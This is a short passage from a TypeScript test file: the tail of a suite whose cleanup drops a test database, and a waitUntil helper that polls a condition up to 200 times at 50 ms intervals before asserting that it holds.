      await database.drop().catch(() => undefined);
    }
  });
});

async function waitUntil(check: () => Promise<boolean>) {
  for (let i = 0; i < 200 && !(await check()); i++) await new Promise((r) => setTimeout(r, 50));
  expect(await check()).toBe(true);
}
